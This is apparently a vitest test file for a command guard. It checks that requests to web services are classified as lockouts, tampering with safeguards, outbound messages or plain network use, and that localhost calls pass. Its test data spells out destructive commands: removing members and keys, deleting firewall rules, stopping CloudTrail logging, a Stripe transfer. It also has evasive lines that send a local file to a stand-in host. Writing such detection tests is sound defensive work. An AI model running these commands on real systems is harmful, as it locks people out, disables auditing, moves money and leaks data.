// Requests to web services are judged by what they ask for, whichever client makes them; what only asks, and what goes
// to a server of this machine, says nothing.
import { describe, expect, it } from "vitest";
import { flagged, play, run } from "../../../cases/session.ts";

const verdictOf = (command: string) => play([run(command)]).at(-1);
const python = (code: string) => `python3 - <<'E'\nimport requests\n${code}\nE`;
const node = (code: string) => `node -e '${code}'`;

describe("a request that matters", () => {
  it.each([
    ["curl -X DELETE https://gitlab.com/api/v4/groups/9/members/7", "lockout"],
    ["curl -X POST https://shop.okta.com/api/v1/users/bob/lifecycle/suspend", "lockout"],
    ["curl -X DELETE https://sso.shop.example/admin/realms/shop/users/7", "lockout"],
    ["curl 'https://iam.amazonaws.com/?Action=DeleteAccessKey&UserName=bob'", "lockout"],
    ["gh api -X DELETE repos/shop/app/collaborators/bob", "lockout"],
    ["wget --method=DELETE https://api.github.com/user/keys/1", "lockout"],
    ["http DELETE https://api.github.com/orgs/shop/members/bob", "lockout"],
    [python("requests.delete('https://api.github.com/orgs/shop/members/bob')"), "lockout"],
    [python("requests.request('DELETE', 'https://api.github.com/orgs/shop/members/bob')"), "lockout"],
    [node("fetch(`https://api.github.com/orgs/shop/members/bob`, { method: `DELETE` })"), "lockout"],
    ["curl -X DELETE https://api.digitalocean.com/v2/firewalls/f1/rules", "guard-tamper"],
    ["curl https://cloudtrail.eu-west-1.amazonaws.com -H 'X-Amz-Target: a.b.StopLogging' -d '{}'", "guard-tamper"],
    ["curl https://api.stripe.com/v1/transfers -d amount=250000 -d destination=acct_1", "outbound-message"],
    ["curl https://slack.com/api/chat.postMessage -d channel=C1 -d text=hi", "outbound-message"],
    ["curl 'https://api.telegram.org/bot1:a/sendMessage?chat_id=7&text=hi'", "outbound-message"],
    ["gh api repos/a/b/issues -f title=x", "outbound-message"],
    ["gh api graphql -f query='mutation { addComment(input: {}) { clientMutationId } }'", "outbound-message"],
    [
      node(
        "fetch(`https://api.mailgun.net/v3/a/messages`, { method: `POST`, body: JSON.stringify({ to: `a@b.example` }) })",
      ),
      "outbound-message",
    ],
    ["pwsh -c 'Invoke-RestMethod -Method Delete -Uri https://graph.microsoft.com/v1.0/users/bob'", "lockout"],
  ])("%s is seen", (command, kind) => {
    expect(flagged(verdictOf(command))).toContain(kind);
  });

  it.each([
    [
      "curl -X DELETE https://api.github.com/orgs/shop/members/bob",
      "takes somebody's access away at api.github.com (members/bob)",
    ],
    [
      `curl https://api.sendgrid.com/v3/mail/send -d '{"personalizations":[{"to":[{"email":"a@b.example"}]}],"from":{"email":"me@shop.example"}}'`,
      "sends a message to a@b.example through api.sendgrid.com",
    ],
    [
      "curl https://api.stripe.com/v1/transfers -d amount=250000",
      "moves money through api.stripe.com (transfers, amount 250000)",
    ],
  ])("%s says so", (command, sentence) => {
    expect(verdictOf(command)?.sentence).toContain(sentence);
  });
});

describe("a request that only reaches its host", () => {
  it.each([
    "curl https://api.github.com/orgs/shop/members",
    "curl -G https://api.example.com/users -d name=bob",
    "curl https://api.example.com/v1/search -d q=members",
    "curl -X POST https://httpbin.example/post -d a=b",
    'curl -X POST https://api.example.com/widgets/7 -d \'{"mail":"bob@shop.example"}\'',
    "gh api repos/a/b/issues",
    python("requests.get('https://api.example.com/users/7')"),
    python("requests.post('https://api.example.com/graphql', json={'query': '{ users { id } }'})"),
  ])("%s", (command) => {
    expect(flagged(verdictOf(command))).toEqual(["network"]);
  });
});

describe("what looks as if it stayed here", () => {
  it.each([
    "curl --unix-socket /tmp/a.sock http://x/ --next https://collect.example/",
    python(
      "import smtplib\ns = smtplib.SMTP('localhost', 1025)\ns.connect('smtp.relay.example')\ns.sendmail('a', 'b', 'c')",
    ),
    "curl --data-urlencode 'a b@notes.md' https://collect.example/",
    "bash -n -i x.sh; bash -n +n -c 'curl https://collect.example'",
  ])("%s is seen to leave", (command) => {
    expect(flagged(verdictOf(command))).toContain("network");
  });
});

describe("a request to this machine", () => {
  it.each([
    "curl -X DELETE localhost:3000/api/users/7",
    "curl -s -X POST http://127.0.0.1:8080/api/messages -d to=a@b.example",
    "http DELETE :3000/users/7",
    python("requests.delete('http://localhost:3000/users/7')"),
    node("fetch(`http://localhost:3000/orders`, { method: `POST`, body: `{}` })"),
  ])("%s passes", (command) => {
    expect([verdictOf(command)?.decision, flagged(verdictOf(command))]).toEqual(["allow", []]);
  });
});
